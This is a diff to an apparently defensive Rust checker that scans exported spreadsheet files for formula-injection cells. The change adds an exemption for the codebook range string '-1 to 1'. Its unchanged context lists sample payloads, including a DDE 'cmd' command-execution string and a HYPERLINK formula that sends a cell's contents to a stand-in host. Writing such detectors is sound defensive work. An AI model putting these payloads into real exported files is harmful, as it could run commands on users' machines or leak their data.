@@ -10,6 +10,9 @@ const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', 
 const BEFORE: &[&str] = &["", " ", "\u{a0}", "\"", "'", "\u{feff}", "\u{200b}"];
 const BEHIND: &[&str] = &["cmd|' /C calc'!A0", "HYPERLINK(\"https://x.example/?\"&A1,\"here\")", "SUM(1+1)*cmd"];
 
+/// The range of a balance in the codebook: our own words, which no spreadsheet takes for a formula.
+const RANGE: &str = "-1 to 1";
+
 const COLUMNS: &[&str] = &["id", "outlet", "event", "title", "author", "url"];
 
 fn formulas() -> Vec<String> {
@@ -58,7 +61,8 @@ pub fn run(tally: &mut Tally) {
         }
         let sheet = Sheet::parse(bytes);
         let all = sheet.rows.iter().flatten().chain(&sheet.header);
-        let bad: Vec<&String> = all.filter(|it| it.starts_with(TRIGGERS) && it.parse::<f64>().is_err()).collect();
+        let bad: Vec<&String> =
+            all.filter(|it| it.starts_with(TRIGGERS) && it.parse::<f64>().is_err() && *it != RANGE).collect();
         n_cells += sheet.rows.len() * sheet.header.len();
         let shown = format!("{} cells, such as {:?}", bad.len(), &bad[..bad.len().min(5)]);
         tally.record(file, if bad.is_empty() { Ok(()) } else { Err(shown) });
